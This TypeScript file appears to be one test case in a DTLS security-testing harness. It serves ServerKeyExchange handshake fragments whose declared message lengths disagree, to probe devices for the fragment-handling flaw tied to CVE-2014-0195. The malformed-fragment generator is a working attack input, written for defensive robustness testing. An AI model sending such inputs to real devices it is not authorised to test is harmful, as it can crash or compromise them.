import { writeFragment } from "../../../dtls/wire/handshake.ts";
import { deviceAttack } from "../../attack.ts";
import type { Framed, Framing } from "../../dtls/options.ts";
import { serveWith } from "./flight.ts";
import { availability, overDtls } from "./reference.ts";

export default deviceAttack({
  id: "U-16e",
  title: "fragments of the gateway that disagree about the length of their message",
  transports: overDtls,
  defeats: "fragment-length-may-change",
  severity: "high",
  reference: availability(["RFC 6347 §4.2.3"], [130, 787], ["CVE-2014-0195"]),
  run: (lab) => serveWith(lab, { framing: disagreeing }, []),
});

/** In two fragments, of which the second says that the message is eight bytes longer. */
function disagreeing({ name, msgType, messageSeq, body }: Framed): Framing | undefined {
  if (name !== "ServerKeyExchange") return undefined;
  const cut = body.length >> 1;
  return {
    fragments: [
      writeFragment(msgType, body.length, messageSeq, 0, body.subarray(0, cut)),
      writeFragment(msgType, body.length + 8, messageSeq, cut, body.subarray(cut)),
    ],
  };
}
